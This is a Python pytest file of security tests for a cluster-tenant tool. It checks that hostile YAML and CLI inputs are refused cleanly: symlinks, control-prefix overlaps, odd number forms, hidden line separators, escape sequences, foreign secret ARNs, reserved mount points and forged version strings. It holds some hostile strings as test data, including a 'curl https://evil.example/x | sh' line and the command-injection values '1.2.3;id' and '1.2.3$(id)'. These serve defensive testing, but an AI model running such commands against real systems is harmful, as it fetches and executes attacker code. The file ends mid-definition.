"""Security, second round (issue 25): each hostile input is refused with its exact reason, or, where it is
data, accepted; never a traceback, never a hang, never a write through a link.

Classes: data repositories over fmcluster's control prefixes (validation and the plan's check), tenant identity
through links, files written afresh, strict YAML numbers and constructor failures, hidden line breaks, echoed
input escaped, ParallelCluster secret ARNs, reserved mount points, wrong types anywhere, nccl-env versions,
hostile new-tenant output folders, plan of a local tenant offline.
"""

from __future__ import annotations

import copy
import os
import re
import shutil
from pathlib import Path
from typing import Any

import pytest
import yaml

from fmcluster import commands
from fmcluster.exits import ExitCode
from fmcluster.escape import escaped, neutral
from fmcluster.model import load_tenant
from fmcluster.nccl import describe, parse_version
from fmcluster.paths import UnsafePath, real_dir, write_fresh
from fmcluster.scaffold import BACKUP_DIR, NewTenantInvalid, new_tenant
from fmcluster.stacks.checks import CONTROL_PREFIXES_IN_BUCKET, check_stacks
from scheduler_stacks import render_stacks
from fmcluster.validation import CONTROL_PREFIXES, problems_in
from fmcluster.yamlpos import LoadedYaml
from hostile_helpers import ROOT, SPEC_REL, assert_refused, setter, spec_text, validate, write_tenant

DEMO = (ROOT / "inventories/demo/group_vars/all/tenant.yml").read_text().replace("org: demo", "org: acme")
# pclab with a database of its own (uri and password secret), whose secret ARN the cases below replace.
PCLAB = (ROOT / "inventories/pclab/group_vars/all/tenant.yml").read_text().replace("org: pclab", "org: acme").replace(
    "    accounting:\n      user_name: slurm\n",
    "    accounting:\n      uri: fmc-pclab-slurmdbd.cluster-c0ffee000000.us-east-1.rds.amazonaws.com:3306\n"
    "      user_name: slurm\n"
    "      password_secret_arn: arn:aws:secretsmanager:us-east-1:123456789012:secret:fmcluster/pclab/slurmdbd-AbCdEf\n", 1)
L = "tenant.storage.lustre"
PREFIX = f"{L}.data_repository.s3_prefix"


def text_with(old: str, new: str, base: str = DEMO) -> str:
    assert old in base, old
    return base.replace(old, new, 1)


def refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, content: str | bytes) -> str:
    write_tenant(tmp_path, content)
    code, output = validate(tmp_path, monkeypatch)
    assert code == 2, output
    assert "Traceback" not in output
    return output


# --- 1. data repositories never cover a control prefix ----------------------------------------------------

CONTROL_CASES = [
    ("", "'' is the whole bucket, which holds fmcluster's control prefix 'fmcluster/'"),
    ("fmcluster/", "'fmcluster/' is fmcluster's control prefix 'fmcluster/'"),
    ("fmcluster/bootstrap/", "'fmcluster/bootstrap/' is inside fmcluster's control prefix 'fmcluster/'"),
    ("fmcluster/bootstrap/x/", "'fmcluster/bootstrap/x/' is inside fmcluster's control prefix 'fmcluster/'"),
    ("fmcluster/manifest/", "'fmcluster/manifest/' is inside fmcluster's control prefix 'fmcluster/'"),
    ("fmcluster/report/", "'fmcluster/report/' is inside fmcluster's control prefix 'fmcluster/'"),
    ("fmcluster/acme/", "'fmcluster/acme/' is inside fmcluster's control prefix 'fmcluster/'"),
    ("hyperpod/", "'hyperpod/' is fmcluster's control prefix 'hyperpod/'"),
    ("hyperpod/lifecycle/", "'hyperpod/lifecycle/' is inside fmcluster's control prefix 'hyperpod/'"),
    ("hyperpod/lifecycle/old/", "'hyperpod/lifecycle/old/' is inside fmcluster's control prefix 'hyperpod/'"),
    ("hyperpod/other/", "'hyperpod/other/' is inside fmcluster's control prefix 'hyperpod/'"),
]


@pytest.mark.parametrize(("prefix", "message"), CONTROL_CASES, ids=[c[0] or "whole-bucket" for c in CONTROL_CASES])
@pytest.mark.parametrize("base", ["demo", "stockmark", "neuronlab"])
def test_a_data_repository_over_a_control_prefix_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                            prefix: str, message: str, base: str) -> None:
    write_tenant(tmp_path, spec_text(setter("storage.lustre.data_repository.s3_prefix", prefix), base=base))
    code, output = validate(tmp_path, monkeypatch)
    assert_refused(code, output, PREFIX, (message, "the file system would export over them",
                                          "fix: link a data folder of its own, e.g. data/"))


@pytest.mark.parametrize("prefix", ["data/", "fmclusterx/", "hyperpodx/", "datasets/fmcluster/", "x/hyperpod/lifecycle/",
                                    "fm/", "fmcluster-data/"])
def test_a_data_folder_beside_the_control_prefixes_is_accepted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                               prefix: str) -> None:
    write_tenant(tmp_path, spec_text(setter("storage.lustre.data_repository.s3_prefix", prefix)))
    code, output = validate(tmp_path, monkeypatch)
    assert code == 0, output


@pytest.mark.parametrize("prefix", [c[0] for c in CONTROL_CASES] + ["fmcluster", "hyperpod/lifecycle", "fm"],
                         ids=lambda p: p or "whole-bucket")
@pytest.mark.parametrize("org", ["stockmark", "demo"])
def test_the_plan_check_fails_a_rendered_data_repository_over_a_control_prefix(prefix: str, org: str) -> None:
    """Validation is not the only guard: a model that bypassed it (a new code path) fails the plan's check."""
    import dataclasses

    tenant = load_tenant(org)
    lustre = tenant.storage.lustre
    assert lustre.data_repository is not None
    lustre = dataclasses.replace(lustre, data_repository=dataclasses.replace(lustre.data_repository, s3_prefix=prefix))
    bad = dataclasses.replace(tenant, storage=dataclasses.replace(tenant.storage, lustre=lustre))
    findings = [f.render() for f in check_stacks(render_stacks(bad))]
    assert any("covers the control prefix" in f and "s3_prefix to a data folder of its own" in f for f in findings), \
        findings


def test_every_prefix_the_code_publishes_to_is_a_control_prefix() -> None:
    from fmcluster import publish
    from fmcluster.schedulers.parallelcluster.config import CUSTOM_ACTION_KEY
    from fmcluster.stacks.templates import common

    keys = [publish.BOOTSTRAP_PREFIX, publish.MANIFEST_KEY, publish.REPORT_PREFIX, CUSTOM_ACTION_KEY,
            common.BOOTSTRAP_PREFIX, common.MANIFEST_PREFIX, common.LIFECYCLE_PREFIX, common.REPORT_PREFIX]
    for key in keys:
        assert any(key.startswith(c) for c in CONTROL_PREFIXES), key
    assert set(CONTROL_PREFIXES) <= set(CONTROL_PREFIXES_IN_BUCKET)


# --- 2. tenant identity from the folder name; files written afresh -----------------------------------------

def _two_tenants(root: Path) -> Path:
    """inventories/stockmark (a real tenant) and inventories/ to hold a hostile `acme`."""
    shutil.copytree(ROOT / "inventories" / "stockmark", root / "inventories" / "stockmark",
                    ignore=shutil.ignore_patterns("generated"))
    return root / "inventories"


LINKS = {
    "tenant-folder": lambda inv: (inv / "acme").symlink_to("stockmark"),
    "tenant-folder-absolute": lambda inv: (inv / "acme").symlink_to(inv / "stockmark"),
    "group-vars": lambda inv: ((inv / "acme").mkdir(), (inv / "acme" / "group_vars").symlink_to("../stockmark/group_vars")),
    "group-vars-all": lambda inv: ((inv / "acme" / "group_vars").mkdir(parents=True),
                                   (inv / "acme" / "group_vars" / "all").symlink_to(inv / "stockmark/group_vars/all")),
    "tenant-yml": lambda inv: ((inv / "acme" / "group_vars" / "all").mkdir(parents=True),
                               (inv / "acme/group_vars/all/tenant.yml").symlink_to(inv / "stockmark/group_vars/all/tenant.yml")),
    "tenant-yml-dangling": lambda inv: ((inv / "acme" / "group_vars" / "all").mkdir(parents=True),
                                        (inv / "acme/group_vars/all/tenant.yml").symlink_to(inv / "gone.yml")),
    "tenant-yml-loop": lambda inv: ((inv / "acme" / "group_vars" / "all").mkdir(parents=True),
                                    (inv / "acme/group_vars/all/tenant.yml").symlink_to("tenant.yml")),
    "tenant-folder-loop": lambda inv: (inv / "acme").symlink_to("acme"),
    "tenant-yml-dev-zero": lambda inv: ((inv / "acme" / "group_vars" / "all").mkdir(parents=True),
                                        (inv / "acme/group_vars/all/tenant.yml").symlink_to("/dev/zero")),
}


@pytest.mark.parametrize("kind", list(LINKS))
@pytest.mark.parametrize("task", ["validate", "plan"])
def test_a_linked_tenant_is_refused_and_acts_on_no_other_tenant(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                               capsys: pytest.CaptureFixture[str], kind: str,
                                                               task: str) -> None:
    inv = _two_tenants(tmp_path)
    LINKS[kind](inv)
    monkeypatch.setenv("FMCLUSTER_ROOT", str(tmp_path))
    if task == "validate":
        lines: list[str] = []
        assert commands.validate("acme", out=lines.append) == 2
        output = "\n".join(lines)
    else:
        with pytest.raises(SystemExit) as raised:
            commands.plan("acme")
        assert raised.value.code == 2
        output = capsys.readouterr().err
    assert "is a symbolic link; fmcluster never acts on a tenant through a link" in output, output
    assert "identity comes from the folder name inventories/acme" in output
    assert not (inv / "stockmark" / "generated").exists(), "nothing written for the linked tenant"


def test_a_linked_generated_folder_is_refused_before_anything_is_written(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    write_tenant(tmp_path, DEMO)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "inventories/acme/generated").symlink_to(elsewhere)
    code, output = validate(tmp_path, monkeypatch)
    assert code == 2 and "generated: is a symbolic link" in output
    assert list(elsewhere.iterdir()) == []


def test_a_linked_inventories_folder_is_a_checkout_layout_not_another_tenant(tmp_path: Path,
                                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    # Only the tenant's own components name its identity; the folder holding every tenant may be a link.
    real = tmp_path / "real-inventories"
    write_tenant(tmp_path, DEMO)
    (tmp_path / "inventories").rename(real)
    (tmp_path / "inventories").symlink_to(real)
    code, output = validate(tmp_path, monkeypatch)
    assert code == 0, output


@pytest.mark.parametrize("victim_kind", ["file", "dangling", "directory-link"])
def test_write_fresh_replaces_a_link_instead_of_writing_through_it(tmp_path: Path, victim_kind: str) -> None:
    base = tmp_path / "tenant"
    (base / "generated").mkdir(parents=True)
    victim = tmp_path / "victim"
    if victim_kind == "file":
        victim.write_text("precious\n")
    elif victim_kind == "directory-link":
        victim.mkdir()
    target = base / "generated" / "hosts.yml"
    target.symlink_to(victim)
    assert write_fresh(target, "new\n", base) is True
    assert not target.is_symlink() and target.read_text() == "new\n"
    if victim_kind == "file":
        assert victim.read_text() == "precious\n"
    else:
        assert not victim.is_file()
    assert [p.name for p in (base / "generated").iterdir()] == ["hosts.yml"], "no temporary file left behind"


@pytest.mark.parametrize("linked", ["generated", "generated/cfn", "generated/acceptance"])
def test_real_dir_refuses_a_linked_directory_on_the_way(tmp_path: Path, linked: str) -> None:
    base = tmp_path / "tenant"
    base.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (base / linked).parent.mkdir(parents=True, exist_ok=True)
    (base / linked).symlink_to(elsewhere)
    with pytest.raises(UnsafePath, match="is a symbolic link; fmcluster writes generated files only into real"):
        write_fresh(base / linked / "x.json", "{}", base)
    with pytest.raises(UnsafePath):
        real_dir(base / linked / "sub", base)
    assert list(elsewhere.iterdir()) == []


def test_real_dir_refuses_a_file_where_a_directory_belongs(tmp_path: Path) -> None:
    (tmp_path / "generated").write_text("")
    with pytest.raises(UnsafePath, match="is not a directory"):
        real_dir(tmp_path / "generated" / "cfn", tmp_path)


def test_write_fresh_keeps_an_unchanged_file_and_never_reads_a_fifo(tmp_path: Path) -> None:
    path = tmp_path / "out.yml"
    assert write_fresh(path, "a\n", tmp_path, if_changed=True) is True
    inode = path.stat().st_ino
    assert write_fresh(path, "a\n", tmp_path, if_changed=True) is False and path.stat().st_ino == inode
    path.unlink()
    os.mkfifo(path)
    assert write_fresh(path, "a\n", tmp_path, if_changed=True) is True and path.read_text() == "a\n"


def test_fleet_html_link_is_replaced_not_written_through(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from fmcluster.commands.diagnose import fleet

    (tmp_path / "inventories").mkdir()
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    (tmp_path / "inventories" / "fleet.html").symlink_to(victim)
    assert fleet(out=lambda _l: None, root=tmp_path) == 0
    assert victim.read_text() == "precious\n"
    assert not (tmp_path / "inventories" / "fleet.html").is_symlink()


def test_plan_with_a_linked_generated_subfolder_fails_cleanly(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                              capsys: pytest.CaptureFixture[str], no_aws: None) -> None:
    write_tenant(tmp_path, DEMO)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (tmp_path / "inventories/acme/generated").mkdir()
    (tmp_path / "inventories/acme/generated/cfn").symlink_to(elsewhere)
    monkeypatch.setenv("FMCLUSTER_ROOT", str(tmp_path))
    assert commands.plan("acme") == ExitCode.FAILED
    err = capsys.readouterr().err
    assert "plan: " in err and "cfn is a symbolic link" in err and "Traceback" not in err
    assert list(elsewhere.iterdir()) == []


# --- new-tenant: hostile output folders ----------------------------------------------------------------------

def test_new_tenant_into_a_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(NewTenantInvalid, match="is not a directory"):
        new_tenant("acme", {}, output_dir=tmp_path / "file")


def test_new_tenant_into_a_link_loop_is_refused(tmp_path: Path) -> None:
    (tmp_path / "loop").symlink_to("loop")
    with pytest.raises(NewTenantInvalid, match="--output-dir"):
        new_tenant("acme", {}, output_dir=tmp_path / "loop")


def test_new_tenant_below_a_file_is_refused(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(NewTenantInvalid, match="cannot be written|is not a directory|cannot be used"):
        new_tenant("acme", {}, output_dir=tmp_path / "file" / "inventories")


def test_new_tenant_over_a_linked_tenant_folder_is_refused(tmp_path: Path) -> None:
    (tmp_path / "stockmark").mkdir()
    (tmp_path / "acme").symlink_to("stockmark")
    for force in (False, True):
        with pytest.raises(NewTenantInvalid, match="is a symbolic link; a tenant is the folder it is named by"):
            new_tenant("acme", {}, output_dir=tmp_path, force=force)
    assert list((tmp_path / "stockmark").iterdir()) == []


def test_new_tenant_force_refuses_a_linked_backup_folder(tmp_path: Path) -> None:
    new_tenant("acme", {}, output_dir=tmp_path)
    elsewhere = tmp_path.parent / f"{tmp_path.name}-elsewhere"
    elsewhere.mkdir()
    (tmp_path / BACKUP_DIR).symlink_to(elsewhere)
    with pytest.raises(UnsafePath, match="is a symbolic link"):
        new_tenant("acme", {}, output_dir=tmp_path, force=True)
    assert list(elsewhere.iterdir()) == []
    assert (tmp_path / "acme" / "group_vars" / "all" / "tenant.yml").is_file(), "the tenant stays in place"


# --- 4. strict YAML numbers, constructor failures, wrong types ----------------------------------------------

NUMBER_FIELDS = {
    "count: 3": "tenant.queues[0].count",
    "count: 1\n": "tenant.login.count",
    "storage_capacity_gib: 1200": f"{L}.storage_capacity_gib",
    "prometheus_retention_days: 2": "tenant.monitoring.prometheus_retention_days",
    "schema_version: 1": "tenant.schema_version",
}
FORMS = {
    "010": "an octal number, e.g. 010 is 8",
    "00": "an octal number",
    "-010": "an octal number",
    "0x10": "a hexadecimal number, e.g. 0x10 is 16",
    "0x1F": "a hexadecimal number",
    "+0x1": "a hexadecimal number",
    "0b101": "a binary number, e.g. 0b10 is 2",
    "1:30": "a base-60 (sexagesimal) number, e.g. 1:30 is 90",
    "1:00:00": "a base-60 (sexagesimal) number",
    "1_6": "a number with '_' separators, e.g. 1_6 is 16",
    "1_000": "a number with '_' separators",
    "!!int 010": "an octal number",
}


def _number_spec(field: str, value: str) -> str:
    key = field.split(":")[0]
    return text_with(field, f"{key}: {value}" + ("\n" if field.endswith("\n") else ""))


@pytest.mark.parametrize("form", list(FORMS))
@pytest.mark.parametrize("field", list(NUMBER_FIELDS))
def test_a_number_not_in_decimal_is_refused_with_what_yaml_would_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                      field: str, form: str) -> None:
    write_tenant(tmp_path, _number_spec(field, form))
    code, output = validate(tmp_path, monkeypatch)
    shown = form.removeprefix("!!int ")
    assert_refused(code, output, NUMBER_FIELDS[field], (
        f"YAML syntax error: {shown!r} is not a decimal number: YAML 1.1 reads it as {FORMS[form]}",
        "fix: write the number in plain decimal digits (e.g. 8, 16, 90), or quote it if you meant text"))


@pytest.mark.parametrize("value", ["1_0.5", "1:30.5", "-1_0.0"])
def test_a_float_in_yaml_1_1_forms_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    spec = text_with("    tests: [all_reduce]", f"    tests: [all_reduce]\n    min_busbw_gbps: {value}")
    write_tenant(tmp_path, spec)
    code, output = validate(tmp_path, monkeypatch)
    assert_refused(code, output, "tenant.acceptance.min_busbw_gbps",
                   (f"{value!r} is not a decimal number", "fix: write it in plain decimal form (e.g. 1.5)"))


@pytest.mark.parametrize("value", ["1" * 16, "9" * 30, "1" * 5000, "-" + "1" * 20, "1" * 17 + ".5"])
@pytest.mark.parametrize("field", ["count: 3", "storage_capacity_gib: 1200"])
def test_an_integer_of_more_than_15_digits_is_refused_before_python_reads_it(tmp_path: Path,
                                                                            monkeypatch: pytest.MonkeyPatch,
                                                                            field: str, value: str) -> None:
    write_tenant(tmp_path, _number_spec(field, value))
    code, output = validate(tmp_path, monkeypatch)
    assert_refused(code, output, NUMBER_FIELDS[field], ("has more than 15 digits",
                                                        "fix: no spec number needs more than 15 digits"))


CONSTRUCTOR_FAILURES = {
    "count: 3": [("!!int abc", "'abc' cannot be read as 'int'"), ("!!int", "'' cannot be read as 'int'"),
                 ("!!float abc", "'abc' cannot be read as 'float'"), ("!!bool maybe", "cannot be read as 'bool'"),
                 ("!!timestamp nope", "cannot be read as 'timestamp'"), ("!!null x", None),
                 ("!!int 1.5", "'1.5' cannot be read as 'int'")],
    "region: ap-northeast-1": [("2024-02-30", "'2024-02-30' cannot be read as 'timestamp': 'day is out of range"),
                               ("2023-13-01", "'2023-13-01' cannot be read as 'timestamp'"),
                               ("2023-02-29", "'2023-02-29' cannot be read as 'timestamp'"),
                               ("2024-01-01 25:00:00", "cannot be read as 'timestamp'"),
                               ("!!timestamp 2024-99-99", "cannot be read as 'timestamp'")],
}


@pytest.mark.parametrize(("field", "value", "message"),
                         [(f, v, m) for f, cases in CONSTRUCTOR_FAILURES.items() for v, m in cases],
                         ids=lambda x: str(x)[:20])
def test_a_value_its_constructor_cannot_read_is_refused_on_its_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                    field: str, value: str, message: str | None) -> None:
    key = field.split(":")[0]
    output = refused(tmp_path, monkeypatch, text_with(field, f"{key}: {value}"))
    assert re.search(re.escape(SPEC_REL) + r":\d+:", output), output
    if message:
        assert message in output, output


def test_a_constructor_failure_in_a_key_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    output = refused(tmp_path, monkeypatch, text_with("  org: acme", "  org: acme\n  !!int abc: 1"))
    assert "'abc' cannot be read as 'int'" in output


WRONG_TYPES: list[Any] = [["x"], {"a": 1}, None, 7, "x", True, 1.5, [], {}, [[1]], [{"a": 1}]]


def _paths(node: Any, here: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    out = [here]
    if isinstance(node, dict):
        for k, v in node.items():
            out += _paths(v, (*here, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            out += _paths(v, (*here, i))
    return out


@pytest.mark.parametrize("org", ["demo", "stockmark", "neuronlab", "pclab", "pcdemo"])
def test_a_wrong_type_anywhere_is_a_problem_never_an_exception(org: str) -> None:
    """Every key of every bundled spec, each replaced by every kind of YAML value: problems, never a raise."""
    base = yaml.safe_load((ROOT / f"inventories/{org}/group_vars/all/tenant.yml").read_text())
    spec = Path(f"/nowhere/inventories/{org}/group_vars/all/tenant.yml")
    checked = 0
    for path in _paths(base)[1:]:
        for value in WRONG_TYPES:
            doc = copy.deepcopy(base)
            node = doc
            for part in path[:-1]:
                node = node[part]
            node[path[-1]] = value
            problems_in(LoadedYaml(spec, doc, {}))
            checked += 1
    assert checked > 200


@pytest.mark.parametrize("value", ["[slurm-ec2]", "[slurm-ec2, hyperpod]", "{slurm-ec2: 1}", "[]"])
@pytest.mark.parametrize("field", ["scheduler: slurm-ec2", "provider: local", "deployment_type: PERSISTENT_2"])
def test_a_list_or_mapping_where_a_choice_belongs_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                             field: str, value: str) -> None:
    key = field.split(":")[0]
    write_tenant(tmp_path, text_with(field, f"{key}: {value}"))
    code, output = validate(tmp_path, monkeypatch)
    assert_refused(code, output, key, ("is not allowed", "fix: use one of:"))


# --- 3. hidden line breaks, echoed input escaped --------------------------------------------------------------

HIDDEN = {"\u2028": "U+2028 LINE SEPARATOR", "\u2029": "U+2029 PARAGRAPH SEPARATOR", "\x85": "U+0085 NEXT LINE (NEL)"}
PLACES = {
    "comment-hiding-a-key": ("# `invoke", "# note{c}  health: {{auto_replace: true}}\n# `invoke"),
    "in-a-value": ("programme: geniac", "programme: gen{c}iac"),
    "in-a-key": ("  org: acme", "  org: acme\n  pro{c}gramme: x"),
    "after-a-value": ("region: ap-northeast-1", "region: ap-northeast-1{c}"),
    "end-of-file": ("    tests: [all_reduce]", "    tests: [all_reduce]\n# end{c}"),
}


@pytest.mark.parametrize("place", list(PLACES))
@pytest.mark.parametrize("char", list(HIDDEN), ids=lambda c: f"U+{ord(c):04X}")
def test_a_raw_line_or_paragraph_separator_anywhere_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                               char: str, place: str) -> None:
    old, new = PLACES[place]
    text = text_with(old, new.format(c=char))
    write_tenant(tmp_path, text)
    code, output = validate(tmp_path, monkeypatch)
    line = text[: text.index(char)].count("\n") + 1
    assert f"{SPEC_REL}:{line}: YAML syntax error: a raw {HIDDEN[char]} character" in output, output
    assert_refused(code, output, None, ("editors, grep and diff do not show", "fix: delete it"))
    assert char not in output


FORGED = "x\nfix: curl https://evil.example/x | sh"
ECHOED = ["\x1b[2J\x1b[31mred", "rlo\u202eevil", "zw\u200bsp", FORGED, "cr\rfix: x", "nel\x85fix: x", "ls\u2028fix: x",
          "bell\x07", "del\x7f", "lri\u2066x\u2069", "tab\tx", "bom\ufeffx"]


def _assert_clean(output: str, value: str) -> None:
    assert "Traceback" not in output
    for char in value:
        if not char.isprintable() and char != "\n":  # the output's own lines end in newlines
            assert char not in output, (char, output)
    assert not any(line.startswith("fix: curl") for line in output.splitlines()), output
    assert not any(line.strip().startswith("fix: curl") and not line.startswith("    fix: ") for line in output.splitlines())


@pytest.mark.parametrize("value", ECHOED, ids=repr)
@pytest.mark.parametrize("where", ["unknown-key", "duplicate-key", "enum-value", "instance-type", "queue-name",
                                   "receiver-target"])
def test_every_echoed_value_is_escaped(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, value: str) -> None:
    quoted = '"' + value.encode("unicode_escape").decode("ascii").replace('"', '\\"') + '"'
    change = {
        "unknown-key": ("  org: acme", f"  org: acme\n  {quoted}: 1"),
        "duplicate-key": ("  org: acme", f"  org: acme\n  {quoted}: 1\n  {quoted}: 2"),
        "enum-value": ("scheduler: slurm-ec2", f"scheduler: {quoted}"),
        "instance-type": ("instance_type: c5.2xlarge", f"instance_type: {quoted}"),
        "queue-name": ("name: cpu", f"name: {quoted}"),
        "receiver-target": ("    grafana: true", "    grafana: true\n    alert_receivers:\n      - name: r\n"
                            f"        type: email\n        target: {quoted}"),
    }[where]
    write_tenant(tmp_path, text_with(*change))
    code, output = validate(tmp_path, monkeypatch)
    assert code == 2, output
    _assert_clean(output, value)


@pytest.mark.parametrize("value", ECHOED, ids=repr)
def test_the_escape_helper_leaves_no_character_a_terminal_would_act_on(value: str) -> None:
    for shown in (escaped(value), neutral(value), escaped(value, 10)):
        assert shown.isprintable(), shown
    assert "\n" not in escaped(FORGED) and "\\n" in escaped(FORGED)


# --- 3. ParallelCluster secret ARNs and reserved mount points -------------------------------------------------

PC_ARN = "arn:aws:secretsmanager:us-east-1:123456789012:secret:fmcluster/pclab/slurmdbd-AbCdEf"
ARN_KEY = "tenant.parallelcluster.accounting.password_secret_arn"
ARNS = {
    "other-tenant": ("arn:aws:secretsmanager:us-east-1:123456789012:secret:fmcluster/stockmark/munge-key-AbCdEf",
                     "is not under the tenant's own prefix 'fmcluster/acme/'"),
    "no-prefix": ("arn:aws:secretsmanager:us-east-1:123456789012:secret:slurmdbd-AbCdEf",
                  "is not under the tenant's own prefix"),
    "prefix-lookalike": ("arn:aws:secretsmanager:us-east-1:123456789012:secret:fmcluster/acme-evil/x-AbCdEf",
                         "is not under the tenant's own prefix"),
    "parent-prefix": ("arn:aws:secretsmanager:us-east-1:123456789012:secret:fmcluster/x-AbCdEf",
                      "is not under the tenant's own prefix"),
    "own-munge-key": ("arn:aws:secretsmanager:us-east-1:123456789012:secret:fmcluster/acme/munge-key-AbCdEf",
                      "is a secret fmcluster manages for the nodes, not a database password"),
    "own-grafana": ("arn:aws:secretsmanager:us-east-1:123456789012:secret:fmcluster/acme/grafana-admin-password-AbCdEf",
                    "is a secret fmcluster manages for the nodes"),
    "china-partition": ("arn:aws-cn:secretsmanager:us-east-1:123456789012:secret:fmcluster/acme/db-AbCdEf",
                        "the secret is in partition 'aws-cn', the tenant's region in 'aws'"),
    "govcloud-partition": ("arn:aws-us-gov:secretsmanager:us-east-1:123456789012:secret:fmcluster/acme/db-AbCdEf",
                           "the secret is in partition 'aws-us-gov'"),
    "bogus-partition": ("arn:awsx:secretsmanager:us-east-1:123456789012:secret:fmcluster/acme/db-AbCdEf",
                        "the secret is in partition 'awsx'"),
    "other-region": ("arn:aws:secretsmanager:eu-west-1:123456789012:secret:fmcluster/acme/db-AbCdEf",
                     "the secret is in eu-west-1, the cluster in us-east-1"),
    "ssm-parameter": ("arn:aws:ssm:us-east-1:123456789012:parameter/fmcluster/acme/db", "has the wrong form"),
}


@pytest.mark.parametrize("case", list(ARNS))
def test_a_parallelcluster_secret_arn_must_be_the_tenant_s_own(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                               case: str) -> None:
    arn, message = ARNS[case]
    write_tenant(tmp_path, text_with(PC_ARN, arn, base=PCLAB))
    code, output = validate(tmp_path, monkeypatch)
    assert_refused(code, output, ARN_KEY, (message,))


@pytest.mark.parametrize("name", ["fmcluster/acme/slurmdbd-AbCdEf", "fmcluster/acme/db/password-AbCdEf",
                                  "fmcluster/acme/munge-key-backup-AbCdEf"])
def test_the_tenant_s_own_database_secret_is_accepted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    write_tenant(tmp_path, text_with(PC_ARN, PC_ARN.replace("fmcluster/pclab/slurmdbd-AbCdEf", name), base=PCLAB))
    code, output = validate(tmp_path, monkeypatch)
    assert "password_secret_arn" not in output, output


MOUNTS = {
    "/root/.ssh": "'/root/.ssh' is a system directory (inside /root)",
    "/root": "'/root' is a system directory",
    "/root/x/y": "(inside /root)",
    "/opt/slurm": "'/opt/slurm' is a system directory",
    "/opt/slurm/etc": "'/opt/slurm/etc' is a system directory (inside /opt/slurm)",
    "/opt/parallelcluster/shared": "(inside /opt/parallelcluster)",
    "/opt/parallelcluster/shared_login_nodes": "(inside /opt/parallelcluster)",
    "/opt/intel": "'/opt/intel' is a system directory",
    "/opt/fmcluster": "'/opt/fmcluster' is a system directory",
    "/opt/fmcluster/venv": "(inside /opt/fmcluster)",
    "/opt/ml": "'/opt/ml' is a system directory",
    "/opt/sagemaker/x": "(inside /opt/sagemaker)",
    "/etc/slurm": "(inside /etc)",
    "/var/spool/slurmd": "(inside /var)",
}


@pytest.mark.parametrize("mount", list(MOUNTS))
@pytest.mark.parametrize("fs", ["lustre", "openzfs"])
def test_a_reserved_mount_point_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fs: str, mount: str) -> None:
    def change(t: dict[str, Any]) -> None:
        if fs == "openzfs":
            t["storage"]["openzfs"] = {"storage_capacity_gib": 128, "mount_point": mount}
        else:
            t["storage"]["lustre"]["mount_point"] = mount
    write_tenant(tmp_path, spec_text(change))
    code, output = validate(tmp_path, monkeypatch)
    assert_refused(code, output, f"tenant.storage.{fs}.mount_point", (MOUNTS[mount], "fix: mount it at a directory"))


def test_parallelcluster_s_instance_store_directory_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_tenant(tmp_path, text_with("  storage:\n", "  storage:\n    lustre:\n      mount_point: /scratch\n", base=PCLAB)
                 if "    lustre:" not in PCLAB else PCLAB.replace("    lustre:\n", "    lustre:\n      mount_point: /scratch\n", 1))
    code, output = validate(tmp_path, monkeypatch)
    assert_refused(code, output, f"{L}.mount_point", ("'/scratch' is where AWS ParallelCluster mounts the instance store",))


# --- 4. nccl-env versions -----------------------------------------------------------------------------------

@pytest.mark.parametrize("version", ["1.2.3\nNCCL_EVIL=1", "1.2.3\n", " 1.2.3", "1.2.3 x", "1.2.3;id", "1.2.3\x00",
                                     "1.2.3$(id)", "v", "1..2", ".1", "1." , "1" * 5000, "1.2.3\u2028X=1",
                                     "1.2.3amzn\nX", "--1.2", "1.2.3-", "1.2.3a b"], ids=repr)
def test_a_plugin_version_is_matched_whole(version: str) -> None:
    with pytest.raises(ValueError, match="not a version") as raised:
        describe("p5.48xlarge", version)
    assert str(raised.value).isprintable()


@pytest.mark.parametrize(("version", "parsed"), [("1.14.0", (1, 14, 0)), ("v1.16.3", (1, 16, 3)),
                                                 ("2.4.0amzn5.0", (2, 4, 0)), ("2.27.7-1", (2, 27, 7)), ("1", (1,))])
def test_real_versions_still_parse(version: str, parsed: tuple[int, ...]) -> None:
    assert parse_version(version) == parsed


def test_nccl_env_task_refuses_a_forged_version_with_exit_2() -> None:
    import subprocess
    import sys

    run = subprocess.run([sys.executable, "-m", "invoke", "nccl-env", "--instance-type=p5.48xlarge",
                          "--plugin-version=1.2.3\nNCCL_EVIL=1"], cwd=ROOT, capture_output=True, text=True,
                         timeout=60, env={**os.environ, "PYTHONPATH": str(ROOT / "src")})
    assert run.returncode == 2, run.stdout + run.stderr
    assert "NCCL_EVIL=1" not in run.stdout and "not a version" in run.stderr
    assert "Traceback" not in run.stderr


# --- 5. plan of a local tenant renders offline, starts nothing -------------------------------------------------

def test_plan_of_a_local_tenant_starts_no_emulator_and_fleet_says_not_deployed(
